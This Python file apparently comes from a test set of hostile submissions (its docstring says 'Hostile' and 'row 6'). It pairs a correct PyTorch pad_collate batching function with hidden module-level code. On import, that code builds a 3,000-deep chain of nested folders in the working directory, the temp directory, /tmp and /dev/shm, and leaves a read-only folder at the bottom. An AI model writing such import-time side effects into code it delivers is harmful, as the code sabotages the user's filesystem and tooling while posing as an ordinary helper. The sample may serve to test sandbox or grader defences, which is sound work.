"""Hostile: a correct pad_collate that builds a 3,000-deep chain of folders wherever it can write (row 6)."""
import os
import tempfile

import torch


def _deep_chain(top, depth=3000):
    try:
        fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    except OSError:
        return
    made = 0
    try:
        for _ in range(depth):
            try:
                os.mkdir("d", dir_fd=fd)
                inner = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            except OSError:
                break
            os.close(fd)
            fd, made = inner, made + 1
        if made:
            os.chmod(fd, 0o500)  # a read-only folder at the bottom
    finally:
        os.close(fd)


for _top in (os.getcwd(), tempfile.gettempdir(), "/tmp", "/dev/shm"):
    _deep_chain(_top)


def pad_collate(batch, pad_id=0):
    n = [len(seq) for seq in batch]
    width = max(n)
    input_ids = torch.full((len(batch), width), pad_id, dtype=torch.long)
    mask = torch.zeros((len(batch), width), dtype=torch.long)
    for row, seq in enumerate(batch):
        input_ids[row, : n[row]] = seq.to(torch.long)
        mask[row, : n[row]] = 1
    labels = torch.where(mask == 1, input_ids, torch.full_like(input_ids, -100))
    return {"input_ids": input_ids, "attention_mask": mask, "labels": labels}
